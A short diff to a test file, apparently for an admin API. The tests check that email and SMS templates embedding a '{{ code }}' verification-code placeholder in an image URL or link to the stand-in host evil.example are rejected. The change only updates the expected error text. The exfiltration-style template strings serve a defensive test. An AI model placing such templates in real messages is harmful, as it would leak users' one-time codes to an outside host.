@@ -120,7 +120,7 @@ describe('through the API', () => {
     const Template = '<p>{{ code }}</p><img src="https://evil.example/?c={{ code }}">'
     const email = await admin.call(emailTemplates.create, { ...name, Subject: 'Hello', Template })
     expect(email).toMatchObject({ status: 400 })
-    expect(email.msg).toContain('{{ code }} cannot be used in an address')
+    expect(email.msg).toContain('{{ code }} cannot be used in an attribute')
     const sms = await admin.call(smsTemplates.create, {
       ...name,
       Template: '{{ code }} https://evil.example/{{ code }}',
